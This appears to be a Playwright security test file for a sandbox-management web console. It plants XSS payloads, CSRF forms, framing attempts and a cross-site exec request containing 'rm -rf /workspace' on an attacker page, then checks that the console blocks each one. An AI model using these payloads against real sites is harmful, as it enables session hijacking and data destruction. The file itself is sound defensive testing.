/**
 * Attacks on the console in a real browser: files that want to run, names that are markup, pages of others that reach
 * in.
 */
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import type { Page } from '#peers/playwright.ts';
import { expect, openSession, signInByKey, test, visited } from './visited.ts';

const ID = 'hostile';
const SCRIPT = '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"><svg onload="window.pwned = 3">';
const FILE = `/api/instances/${ID}/volumes/workspace`;

/**
 * The page of someone else, on another port of the same machine: the same site to a browser, so that cookies come
 * along.
 */
let attacker: Server;
let evil: string;
let attack = '';

test.beforeAll(async () => {
  attacker = createServer((_req, res) => res.setHeader('content-type', 'text/html').end(attack)).listen(0, '127.0.0.1');
  await once(attacker, 'listening');
  evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
  const { call } = visited();
  if ((await call('GET', `/api/instances/${ID}`)).status !== 404) return;
  const made = await call('POST', '/api/instances', {
    id: ID,
    tenant: 'harbour',
    name: `Name ${SCRIPT}`,
    labels: { note: `"><script>window.pwned = 5</script>`, tag: '</script><script>window.pwned = 6</script>' },
  });
  expect(made.status).toBe(201);
  // No API takes such a policy; a row of an earlier version may have it.
  const registry = new DatabaseSync(join(visited().folder, 'registry.sqlite'));
  registry.prepare('UPDATE instances SET policy = ? WHERE id = ?').run('"><img src=x onerror=pwned=4>', ID);
  registry.close();
  await call('POST', `/api/instances/${ID}/resume`, { reason: SCRIPT });
  for (const name of [
    'page.html',
    'drawing.svg',
    'data.json',
    'readme.md',
    encodeURIComponent(`<img src=x onerror=pwned=7>`),
  ]) {
    const content = name.endsWith('.svg')
      ? '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.pwned = 8; top.pwned = 8</script></svg>'
      : `<!doctype html><title>ran</title>${SCRIPT}<script>top.pwned = 9; fetch('/api/instances')</script>`;
    expect((await call('PUT', `${FILE}/${name}`, content)).status).toBe(201);
  }
});
test.afterAll(() => void attacker.close());

const pwned = (page: Page) => page.evaluate(() => (window as { pwned?: number }).pwned ?? null);

/** Collects what a page's policy stopped: nothing at all when what is hostile was escaped. */
async function watch(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const stopped: string[] = [];
    Object.assign(window, { stopped });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      stopped.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return () => page.evaluate(() => (window as unknown as { stopped: string[] }).stopped);
}

test('names, labels, reasons, policies and file contents that are markup are shown as text', async ({ page }) => {
  const stopped = await watch(page);
  await openSession(page);
  for (const path of [
    '/',
    '/sandboxes',
    '/sandboxes?q=Name',
    `/sandboxes?tenant=${encodeURIComponent(SCRIPT)}`,
    `/sandboxes?label=${encodeURIComponent(`note:${SCRIPT}`)}`,
    `/sandboxes/${ID}`,
    `/sandboxes/${ID}?volume=workspace&path=/page.html`,
    `/sandboxes/${ID}?volume=workspace&path=/drawing.svg`,
    `/sandboxes/${ID}?volume=workspace&path=/data.json`,
    `/sandboxes/${ID}?volume=workspace&path=/readme.md`,
    `/sandboxes/${ID}?volume=${encodeURIComponent(SCRIPT)}`,
  ]) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect([path, await pwned(page)]).toEqual([path, null]);
    expect([path, await stopped()]).toEqual([path, []]);
    expect(await page.locator('[onerror], [onload]').count()).toBe(0);
  }
  await page.goto(`/sandboxes/${ID}?volume=workspace&path=/page.html`);
  await expect(page.getByText('is not known here. It keeps what that gives')).toBeVisible();
  await expect(page.locator('figure')).toContainText('window.pwned = 1');
  await expect(page.locator('figure')).not.toContainText('ran the page');
  await page.goto(`/signin?to=${encodeURIComponent(`javascript:window.pwned=10`)}`);
  expect(await pwned(page)).toBeNull();
});

test('a page or drawing from a volume is downloaded when its address is opened, and does not run', async ({ page }) => {
  await openSession(page);
  for (const name of ['page.html', 'drawing.svg']) {
    const downloading = page.waitForEvent('download');
    await page
      .goto(`${FILE}/${name}`)
      .catch((error: unknown) => expect(String(error)).toMatch(/Download is starting|ERR_ABORTED/));
    expect((await downloading).suggestedFilename()).toBe(name);
    expect(await page.title()).not.toBe('ran');
  }
});

test('a file is no script, style or frame of the console, and none that another site loads', async ({
  page,
  complaints,
}) => {
  complaints.expected.push(/./);
  const { call, url } = visited();
  await call('PUT', `${FILE}/code.js`, 'window.pwned = 11');
  await call('PUT', `${FILE}/code.css`, 'body { --pwned: 12 }');
  await openSession(page);
  await page.goto('/');
  const inside = await page.evaluate(async (file) => {
    const settled = (element: HTMLElement) =>
      new Promise<string>((resolve) => {
        element.onload = () => resolve('load');
        element.onerror = () => resolve('error');
        document.body.append(element);
      });
    const frame = Object.assign(document.createElement('iframe'), { src: `${file}/page.html` });
    const style = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${file}/code.css` });
    let script = 'load';
    try {
      script = await settled(Object.assign(document.createElement('script'), { src: `${file}/code.js` }));
    } catch {
      script = 'refused';
    }
    const shown = settled(frame).then(() => frame.contentDocument?.title ?? null);
    return { script, style: await settled(style), frame: await shown };
  }, FILE);
  expect(inside).toEqual({ script: 'refused', style: 'error', frame: null });

  attack = `<script src="${url}${FILE}/code.js"></script><img id="image" src="${url}${FILE}/page.html">
    <script>fetch('${url}/api/instances', { credentials: 'include' }).then((r) => r.text()).then((t) => { window.read = t }, () => { window.read = null })</script>`;
  await page.goto(evil);
  await expect.poll(() => page.evaluate(() => (window as { read?: string | null }).read)).toBeNull();
  expect(await pwned(page)).toBeNull();
});

test('what was injected after all does not run: inline code, handlers, evaluated text, foreign code and forms', async ({
  page,
  complaints,
}) => {
  complaints.expected.push(/Content Security Policy/i, /Trusted/);
  const stopped = await watch(page);
  await openSession(page);
  await page.goto(`/sandboxes/${ID}`);
  const thrown = await page.evaluate(async (other) => {
    // What a tool evaluates may itself evaluate; what runs in a task of its own is held to the policy.
    await new Promise((resolve) => setTimeout(resolve, 0));
    const attempt = (act: () => unknown) => {
      try {
        act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown';
      }
    };
    const attempts = {
      innerHTML: attempt(() => {
        document.body.innerHTML = '<img src=x onerror="window.pwned = 20">';
      }),
      evaluated: attempt(() => Reflect.get(window, 'eval')('window.pwned = 21')),
      made: attempt(() => new Function('window.pwned = 22')()),
      timer: attempt(() => setTimeout('window.pwned = 23', 0)),
      foreign: attempt(() => {
        const script = document.createElement('script');
        script.src = `${other}evil.js`;
        document.body.append(script);
      }),
      text: attempt(() => {
        const script = document.createElement('script');
        script.textContent = 'window.pwned = 24';
        document.body.append(script);
      }),
      policy: attempt(() =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
      ),
    };
    const button = document.createElement('button');
    button.setAttribute('style', 'color: red');
    const base = Object.assign(document.createElement('base'), { href: other });
    const form = Object.assign(document.createElement('form'), { action: other, method: 'post' });
    document.body.append(button, base, form);
    form.submit();
    const link = Object.assign(document.createElement('a'), { href: 'javascript:window.pwned = 25' });
    document.body.append(link);
    link.click();
    return { ...attempts, colour: getComputedStyle(button).color, base: document.baseURI };
  }, evil);
  const { colour, base, ...attempts } = thrown;
  for (const [what, became] of Object.entries(attempts))
    expect([what, became]).toEqual([what, expect.stringMatching(/Error$/)]);
  expect(colour).not.toBe('rgb(255, 0, 0)');
  expect(base).not.toContain(evil);
  await expect
    .poll(async () => new Set((await stopped()).map((line) => line.split(' ', 1)[0])))
    .toEqual(
      new Set([
        'require-trusted-types-for',
        'trusted-types',
        'script-src-elem',
        'style-src-attr',
        'base-uri',
        'form-action',
      ]),
    );
  expect(await pwned(page)).toBeNull();
  expect(page.url()).toContain(`/sandboxes/${ID}`);
});

test('markup that the server would send without a nonce does not run either', async ({ page, complaints }) => {
  complaints.expected.push(/Content Security Policy|404/);
  await openSession(page);
  await page.route(`**/sandboxes/${ID}`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(
      '<body>',
      `<body><script>window.pwned = 30</script><script src="/api/instances/${ID}/volumes/workspace/code.js"></script><script src="/_next/static/x.js"></script><img src="/x" onerror="window.pwned = 31"><base href="${evil}">`,
    );
    await route.fulfill({ response, body });
  });
  await page.goto(`/sandboxes/${ID}`);
  await expect(page.getByText('live', { exact: true })).toBeVisible();
  expect(await pwned(page)).toBeNull();
  expect(await page.evaluate(() => document.baseURI)).not.toContain(evil);
});

test('nobody frames the console, its files or its API', async ({ page, complaints }) => {
  complaints.expected.push(/frame|Framing|X-Frame-Options/i);
  const { url } = visited();
  await openSession(page);
  for (const path of ['/', `/sandboxes/${ID}`, '/signin', '/api/instances', '/openapi.json']) {
    attack = `<iframe name="victim" src="${url}${path}"></iframe>`;
    await page.goto(evil);
    const framed = () => page.frames().find((frame) => frame !== page.mainFrame());
    await expect.poll(() => framed()?.url()).toMatch(/^chrome-error:/);
    expect(await framed()?.evaluate(() => document.body?.textContent ?? '')).not.toMatch(/Winterdock|harbour|ran/);
  }
});

test('the form of a server action works from the console and from nowhere else', async ({ page, complaints }) => {
  complaints.expected.push(/403/);
  const { call, url } = visited();
  const state = async () => (await call<{ state: string }>('GET', `/api/instances/${ID}`)).json.state;
  await call('POST', `/api/instances/${ID}/resume`, {});
  await openSession(page);

  // The form as a browser without JavaScript would send it, which is the form that another site can copy.
  const html = await (await page.request.get(`/sandboxes/${ID}`)).text();
  const form = /<form[^>]*>(?:(?!<\/form>).)*value="suspend"(?:(?!<\/form>).)*<\/form>/s.exec(html)?.[0] ?? '';
  const hidden = [...form.matchAll(/<input type="hidden" name="([^"]+)"(?: value="([^"]*)")?\/>/g)];
  expect(hidden.some(([, name]) => name?.startsWith('$ACTION_'))).toBe(true);
  const copy = `<form id="f" method="post" enctype="multipart/form-data" action="${url}/sandboxes/${ID}">
    ${hidden.map(([, name, value]) => `<input name="${name}" value="${value ?? ''}">`).join('')}
    <input name="verb" value="suspend"></form>`;

  attack = `${copy}<script>document.getElementById('f').submit()</script>`;
  await page.goto(evil);
  await page.waitForURL(`${url}/sandboxes/${ID}`);
  await expect(page.locator('body')).toContainText('Only the console itself may send this request');
  expect(await state()).toBe('active');

  // The very same fields do it from the console itself, so the refusals above were about where they came from.
  await page.goto('/');
  const fields = hidden.map(([, name, value]) => [
    name ?? '',
    (value ?? '').replaceAll('&quot;', '"').replaceAll('&amp;', '&'),
  ]);
  const status = await page.evaluate(
    async ({ path, entries }) => {
      const body = new FormData();
      for (const [name, value] of entries) body.append(name ?? '', value ?? '');
      body.append('verb', 'suspend');
      return (await fetch(path, { method: 'POST', body })).status;
    },
    { path: `/sandboxes/${ID}`, entries: fields },
  );
  expect(status).toBe(200);
  expect(await state()).toBe('suspended');
});

test('another site changes nothing through the API with the visitor’s session', async ({ page, complaints }) => {
  complaints.expected.push(/403|ERR_BLOCKED_BY_RESPONSE|Framing/);
  const { call, url } = visited();
  await openSession(page);
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.method() === 'POST') sent.push(new URL(request.url()).pathname);
  });
  attack = `<form id="f" method="post" enctype="text/plain" action="${url}/api/instances" target="out"><input name='{"id":"planted","tenant":"evil","x":"' value='"}'></form><iframe name="out"></iframe>
    <script>
      document.getElementById('f').submit();
      const send = (path, body) => fetch('${url}' + path, { method: 'POST', mode: 'no-cors', credentials: 'include', body });
      Promise.allSettled([
        send('/api/instances', '{"id":"planted","tenant":"evil"}'),
        send('/instances', '{"id":"planted","tenant":"evil"}'),
        send('/api/instances/${ID}/archive', ''),
        send('/api/instances/${ID}/exec', '{"command":"rm -rf /workspace"}'),
        send('/api/auth/sign-out', '{}'),
      ]).then(() => { document.title = 'tried'; });
    </script>`;
  const before = (await call('GET', `/api/instances/${ID}`)).text;
  await page.goto(evil);
  await expect(page).toHaveTitle('tried');
  expect(sent.length).toBe(6);
  expect((await call('GET', '/api/instances/planted')).status).toBe(404);
  const { idle_seconds: _, ...was } = JSON.parse(before);
  expect((await call('GET', `/api/instances/${ID}`)).json).toMatchObject({ ...was, next: expect.anything() });
  await page.goto('/');
  await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible();
});

test('the session’s cookie is out of reach of scripts, of other hosts and of plain requests from elsewhere', async ({
  page,
  context,
}) => {
  await signInByKey(page);
  const cookie = (await context.cookies()).find(({ name }) => name.endsWith('session_token'));
  expect(cookie).toMatchObject({
    name: '__Host-winterdock.session_token',
    httpOnly: true,
    secure: true,
    sameSite: 'Lax',
    path: '/',
    domain: '127.0.0.1',
  });
  // What a script may read is only the time zone that a script wrote.
  const readable = await page.evaluate(() => document.cookie);
  expect(readable.split('; ').filter((one) => one !== '' && !one.startsWith('__Host-winterdock.zone='))).toEqual([]);
});

test('the way in warns a visitor whose address keeps no session', async ({ request }) => {
  const page = async (host: string) => (await request.get('/signin', { headers: { host } })).text();
  expect(await page('localhost:3000')).not.toContain('may not keep a session');
  expect(await page('dock.lan:3000')).toContain('may not keep a session');
});
